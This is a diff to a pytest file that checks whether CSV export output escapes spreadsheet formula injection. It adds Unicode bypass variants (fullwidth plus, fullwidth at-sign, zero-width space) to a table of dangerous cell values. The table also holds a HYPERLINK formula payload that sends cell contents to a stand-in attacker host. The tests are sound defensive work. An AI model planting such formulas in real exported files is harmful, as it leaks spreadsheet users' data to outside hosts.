@@ -26,7 +26,10 @@ DANGEROUS = {
     "  =1": "'  =1",
     "\u00a0=1": "'\u00a0=1",
     "\uff1d1": "'\uff1d1",
+    "\uff0b1": "'\uff0b1",
     "\uff0d1": "'\uff0d1",
+    "\uff201": "'\uff201",
+    "\u200b=1": "'\u200b=1",
     "\u3000@1": "'\u3000@1",
     "\ufeff=1": "'\ufeff=1",
     '=HYPERLINK("https://evil.test/?"&A1;"x")': '\'=HYPERLINK("https://evil.test/?"&A1;"x")',
@@ -172,7 +175,7 @@ def test_a_cell_is_text_and_no_formula(conn: psycopg.Connection, text: str) -> N
 
 
 @pytest.mark.parametrize(
-    ("scalar", "cell"), [("'=1'::text", '"\'=1"'), ("7", "7"), ("null::text", "")]
+    ("scalar", "cell"), [("'=1'::text", '"\'=1"'), ("7", "7"), ("true", "true"), ("null::text", "")]
 )
 def test_what_is_no_row_is_a_file_of_one_column(
     conn: psycopg.Connection, scalar: str, cell: str
